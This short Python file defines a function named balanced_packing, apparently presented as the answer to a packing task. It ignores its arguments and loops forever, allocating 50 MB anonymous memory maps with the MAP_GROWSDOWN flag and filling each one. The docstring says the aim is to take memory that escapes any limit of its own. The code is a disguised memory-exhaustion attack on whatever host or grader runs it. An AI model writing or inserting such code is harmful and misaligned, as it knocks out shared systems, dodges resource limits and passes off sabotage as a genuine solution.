"""Takes memory that counts for no limit of its own: private mappings that grow downwards, as stacks do."""
import mmap

MAP_GROWSDOWN = 0x100
hoard = []


def balanced_packing(weight, num_packs):
    while True:
        hoard.append(mmap.mmap(-1, 50_000_000, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_GROWSDOWN))
        hoard[-1].write(b"x" * 50_000_000)
